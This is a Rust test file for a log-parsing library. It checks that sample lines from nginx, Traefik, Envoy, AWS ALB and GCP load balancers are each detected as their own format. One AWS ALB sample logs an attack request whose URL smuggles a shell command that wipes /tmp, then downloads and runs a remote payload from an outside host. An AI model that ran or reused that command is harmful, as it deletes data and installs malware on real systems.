//! Detection across formats: `Format::sniff` tries the formats in `Format::ALL` order, and every
//! sample line of the JSON formats, Envoy text, AWS ALB and GCP must land on its own format, with
//! no earlier format claiming it. Wrapped lines are unwrapped first, as the reader does.

use std::borrow::Cow;

use tollgate_logs::Format;
use tollgate_logs::time::TimeCache;
use tollgate_logs::wrap::{Unwrapped, Unwrapper, Wrapper, detect};

/// Sample lines and the format each must be detected as. Sources are named in the format
/// modules' tests; lines marked there as constructed follow the documented fields.
const SAMPLES: &[(Format, &str)] = &[
    // ingress-nginx JSON (`log-format-escape-json`).
    (
        Format::IngressNginx,
        r#"{"time": "2020-02-07T11:48:51+00:00", "remote_addr": "192.168.64.1", "x_forwarded_for": "192.168.64.1", "request_id": "529a007902362a5f51385a5fa7049884", "remote_user": "", "bytes_sent": 312, "request_time": 0.001, "status": 200, "vhost": "hello-world.info", "request_proto": "HTTP/1.1", "path": "/products", "request_query": "", "request_length": 89, "method": "POST", "http_referrer": "", "http_user_agent": "curl/7.54.0"}"#,
    ),
    (
        Format::IngressNginx,
        r#"{"@timestamp":"2022-08-24T18:05:41+00:00","client_ip":"2a02:cf40::4e36","host":"localhost","request_uri":"/favicon.ico?v=2","uri":"/favicon.ico","method":"GET","status":502,"body_bytes_sent":552,"request_time":"0.000, 1.000","upstream_addr":"[2a02:cf40::7]:5000, [2a02:cf40::4e36]:5000","upstream_status":"502, 403","upstream_response_time":"0.000, 1.000","proxy_upstream_name":"localhost-8080","request_id":"3db73c6c673c4256ade033a6ce08c2ab","http_user_agent":"curl/8.4.0"}"#,
    ),
    // Traefik JSON.
    (
        Format::TraefikJson,
        r#"{"ClientAddr":"10.10.10.20:23456","DownstreamContentSize":19,"DownstreamStatus":404,"Duration":486767,"OriginContentSize":19,"OriginDuration":467360,"OriginStatus":404,"Overhead":19407,"RequestAddr":"10.10.10.11:12345","RequestContentSize":814,"RequestCount":583793,"RequestHost":"10.10.10.11","RequestMethod":"GET","RequestPath":"/foo/bar/baz.php","RequestPort":"-","RequestProtocol":"HTTP/1.1","RetryAttempts":0,"RouterName":"service-foo-0101010101010101@kubernetescrd","ServiceAddr":"10.10.10.40:1234","ServiceName":"service-foo-0120101010101@kubernetescrd","ServiceURL":{"Scheme":"http","Opaque":"","User":null,"Host":"10.10.10.60:5678","Path":"","RawPath":"","OmitHost":false,"ForceQuery":false,"RawQuery":"","Fragment":"","RawFragment":""},"StartLocal":"2024-02-02T17:07:08.048870614Z","downstream_Content-Type":"text/plain; charset=utf-8","entryPointName":"web","level":"info","msg":"","origin_Content-Type":"text/plain; charset=utf-8","request_User-Agent":"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_1) AppleWebKit/123.36 (KHTML, like Gecko) Chrome/39.0.2171.95 Safari/537.36","time":"2024-02-02T17:07:08Z"}"#,
    ),
    (
        Format::TraefikJson,
        r#"{"ClientAddr":"[::1]:56348","ClientHost":"::1","ClientPort":"56348","ClientUsername":"-","DownstreamContentSize":19,"DownstreamStatus":404,"Duration":32673,"Overhead":32673,"RequestAddr":"backend.elastic-package-service.docker.localhost","RequestContentSize":0,"RequestCount":27,"RequestHost":"backend.elastic-package-service.docker.localhost","RequestMethod":"GET","RequestPath":"/","RequestPort":"-","RequestProtocol":"HTTP/1.1","RequestScheme":"http","RetryAttempts":0,"StartLocal":"2024-04-15T13:26:33.80902715Z","StartUTC":"2024-04-15T13:26:33.80902715Z","level":"info","msg":"","time":"2024-04-15T13:26:33Z"}"#,
    ),
    // Envoy text: default (Contour), Emissary, TCP, Istio.
    (
        Format::Envoy,
        r#"[2019-04-11T00:31:55.439Z] "GET /elastic HTTP/1.1" 404 NR 0 0 0 - "172.17.0.3" "curl/7.59.0" "58436667-bf70-4fd0-9fe9-cdadadecfd55" "192.168.99.107:30901" "-""#,
    ),
    (
        Format::Envoy,
        r#"ACCESS [2024-04-25T17:51:55.294Z] "GET /backend/ HTTP/1.1" 200 - 0 141 0 0 "192.168.0.9" "curl/8.4.0" "b7ba9b4c-f4b7-47c2-9718-c23aa1465f49" "localhost:9001" "192.168.96.113:80""#,
    ),
    (
        Format::Envoy,
        r#"[2019-04-08T16:50:12.533Z] "- - -" 0 - 87 254 4 - "-" "-" "-" "-" "172.27.0.2:80""#,
    ),
    (
        Format::Envoy,
        r#"[2022-07-20T09:52:24.955Z] "GET /details/0 HTTP/1.1" 200 - via_upstream - "-" 0 178 2 1 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.5060.114 Safari/537.36" "785918d6-06b6-9312-bf77-6d9bd968dc21" "details:9080" "10.68.2.10:9080" inbound|9080|| 127.0.0.6:47889 10.68.2.10:9080 10.68.1.7:39696 outbound_.9080_._.details.default.svc.cluster.local default"#,
    ),
    (
        Format::Envoy,
        r#"2025-12-31T19:00:00.310000000+01:00 stdout F [2016-04-15T20:17:00.310Z] "POST /api/v1/locations HTTP/2" 204 - 154 0 226 100 "10.0.35.28" "nsq2http" "cc21d9b0-cf5c-432b-8c7e-98aeb7988cd2" "locations" "tcp://10.0.2.1:80""#,
    ),
    // Envoy JSON: Envoy Gateway under CRI, Istio, Contour.
    (
        Format::EnvoyJson,
        r#"2025-12-31T17:37:40.493035218+01:00 stdout F {":authority":"www.example.com","bytes_received":0,"bytes_sent":121258,"connection_termination_details":null,"downstream_local_address":"10.42.0.77:10443","downstream_remote_address":"10.0.0.12:59292","duration":11,"method":"GET","protocol":"HTTP/2","requested_server_name":null,"response_code":200,"response_code_details":"via_upstream","response_flags":"-","route_name":"httproute/app/app-www-example-com/rule/0/match/0/www_example_com","start_time":"2025-12-31T16:37:40.479Z","upstream_cluster":"httproute/app/app-www-example-com/rule/0","upstream_host":"10.42.0.82:8080","upstream_local_address":"10.42.0.77:51216","upstream_transport_failure_reason":null,"user-agent":"Mozilla/4.0 (Windows NT 9.0; Win64; x64; rv:136.0) Gecko/20101 Firefox/136.0","x-envoy-origin-path":"/assets/image.webp","x-envoy-upstream-service-time":null,"x-forwarded-for":"10.0.0.12","x-request-id":"3bbc0252-2d5c-49fe-bd89-104e9b61770b"}"#,
    ),
    (
        Format::EnvoyJson,
        r#"{"authority":"httpbin.default:8000","bytes_received":"0","bytes_sent":"615","connection_termination_details":null,"downstream_local_address":"10.244.1.5:8000","downstream_remote_address":"10.244.1.3:45678","duration":"4","method":"GET","path":"/status/200?delay=1","protocol":"HTTP/1.1","request_id":"a1b2c3d4-e5f6-7890","requested_server_name":null,"response_code":"200","response_code_details":"via_upstream","response_flags":"-","route_name":"default","start_time":"2026-02-24T10:30:45.123Z","upstream_cluster":"inbound|8000||","upstream_host":"10.244.1.5:8000","upstream_local_address":"127.0.0.6:44444","upstream_service_time":"3","upstream_transport_failure_reason":null,"user_agent":"curl/7.88.1","x_forwarded_for":null}"#,
    ),
    (
        Format::EnvoyJson,
        r#"{"@timestamp":"2021-04-14T16:36:00.361Z","authority":"echo.example.com","bytes_received":0,"bytes_sent":463,"downstream_local_address":"10.1.2.3:8080","downstream_remote_address":"172.18.0.1:53822","duration":6,"method":"POST","path":"/login?next=%2F","protocol":"HTTP/1.1","request_id":"837aa8dc-344f-4faa-b7d5-c9cce1028519","requested_server_name":"","response_code":401,"response_flags":"-","uber_trace_id":"","upstream_cluster":"default/echo/80/da39a3ee5e","upstream_host":"10.244.2.5:8080","upstream_local_address":"10.244.1.4:40522","upstream_service_time":"3","user_agent":"python-requests/2.31.0","x_forwarded_for":"-","grpc_status":"","grpc_status_number":null}"#,
    ),
    // AWS ALB.
    (
        Format::AwsAlb,
        r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward,redirect" "-" "-" "10.0.0.1:80" "200" "-" "-""#,
    ),
    (
        Format::AwsAlb,
        r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#,
    ),
    (
        Format::AwsAlb,
        r#"h2 2023-09-10T23:55:00.361692Z app/I8YR24BIAN4K/6378464905b0814a 2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718 10.0.0.0:80 0.000 0.003 0.000 401 401 29 805 "GET https://api.foo.bar.nl:443/api/v1/alerts/me/outstanding HTTP/2.0" "3.20.0 (Build/1900005469; Android 33; samsung; SM-G781B) okhttp/4.11.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:xxx:targetgroup/ApiTa/4adf8897d8a3b7af "Root=1-64fe5754-33ecd7461b3736944677bb97" "api.foo.bar.nl" "session-reused" 11 2023-09-10T23:55:00.358000Z "forward" "-" "-" "10.0.100.2:80" "401" "-" "-""#,
    ),
    // GCP load balancer.
    (
        Format::GcpLb,
        r#"{"insertId":"1oek5rg3l3fxj7","jsonPayload":{"@type":"type.googleapis.com/google.cloud.loadbalancin,g.type.LoadBalancerLogEntry","cacheId":"SFO-fbae48ad","statusDetails":"response_from_cache"},"httpRequest":{"requestMethod":"GET","requestUrl":"http://81.2.69.193:8080/static/us/three-cats.jpg","requestSize":"577","status":304,"responseSize":"157","userAgent":"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/83.0.4103.61 Safari/537.36","remoteIp":"89.160.20.156:9989","cacheHit":true,"cacheLookup":true,"serverIp":"10.5.3.1:9090","protocol":"HTTP/2.0","referer":"https://developer.mozilla.org/en-US/docs/Web/JavaScript"},"resource":{"type":"http_load_balancer","labels":{"zone":"global","url_map_name":"URL_MAP_NAME","forwarding_rule_name":"FORWARDING_RULE_NAME","target_proxy_name":"TARGET_PROXY_NAME","backend_service_name":"","project_id":"PROJECT_ID"}},"timestamp":"2020-06-08T23:41:30.078651Z","severity":"INFO","logName":"projects/PROJECT_ID/logs/requests","trace":"projects/PROJECT_ID/traces/241d69833e64b3bf83fabac8c873d992","receiveTimestamp":"2020-06-08T23:41:30.588272510Z","spanId":"7b6537d3672e08e1"}"#,
    ),
    (
        Format::GcpLb,
        r#"{"httpRequest":{"latency":"0.081234s","protocol":"HTTP/1.1","remoteIp":"2001:db8::5","requestMethod":"POST","requestSize":"1024","requestUrl":"https://shop.example.com/api/cart?item=7\u0026qty=2","responseSize":"2088","serverIp":"10.8.0.12","status":201,"userAgent":"okhttp/4.12.0"},"insertId":"w5k2c9f1a3b7d","jsonPayload":{"@type":"type.googleapis.com/google.cloud.loadbalancing.type.LoadBalancerLogEntry","statusDetails":"response_sent_by_backend"},"resource":{"labels":{"backend_service_name":"k8s1-2f9a3c1d-shop-web-80-7b1e5d2a","zone":"global"},"type":"http_load_balancer"},"timestamp":"2025-03-01T10:00:00.918Z","trace":"projects/shop-prod/traces/4bf92f3577b34da6a3ce929d0e0e4736"}"#,
    ),
];

/// The line the parsers see: the payload of a wrapped line, or the line itself.
fn payload(line: &str) -> Cow<'_, str> {
    match Unwrapper::new().feed(line) {
        Unwrapped::Plain(line) => Cow::Borrowed(line),
        Unwrapped::Line(payload) => payload,
        other => panic!("{other:?} for {line}"),
    }
}

#[test]
fn every_sample_is_sniffed_as_its_own_format() {
    let mut clock = TimeCache::new();
    for (expected, line) in SAMPLES {
        let line = payload(line);
        let sniffed = Format::sniff(&line, &mut clock).map(|(format, _)| format);
        assert_eq!(sniffed, Some(*expected), "{line}");
    }
}

#[test]
fn every_sample_parses_only_as_its_own_format() {
    let mut clock = TimeCache::new();
    for (expected, line) in SAMPLES {
        let line = payload(line);
        let accepted: Vec<Format> = Format::ALL
            .iter()
            .copied()
            .filter(|format| format.parse(&line, &mut clock).is_ok())
            .collect();
        assert_eq!(accepted, [*expected], "{line}");
    }
}

#[test]
fn wrapped_samples_are_detected_as_wrapped() {
    let cri: Vec<_> = SAMPLES
        .iter()
        .filter(|(_, line)| detect(line) == Wrapper::Cri)
        .collect();
    assert_eq!(cri.len(), 2);
    assert!(
        SAMPLES
            .iter()
            .all(|(_, line)| detect(line) != Wrapper::Docker)
    );
}

#[test]
fn lines_of_no_known_format_are_not_sniffed() {
    let mut clock = TimeCache::new();
    for line in [
        "",
        "{}",
        r#"{"level":"info","msg":"server started","time":"2024-02-02T17:07:08Z"}"#,
        "tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - - - ECDHE-RSA-AES128-SHA tlsv12 - - - - - 2018-12-20T02:59:30",
        "I0101 00:00:00.000000       1 controller.go:42] Starting controller",
    ] {
        assert!(Format::sniff(line, &mut clock).is_none(), "{line}");
    }
}
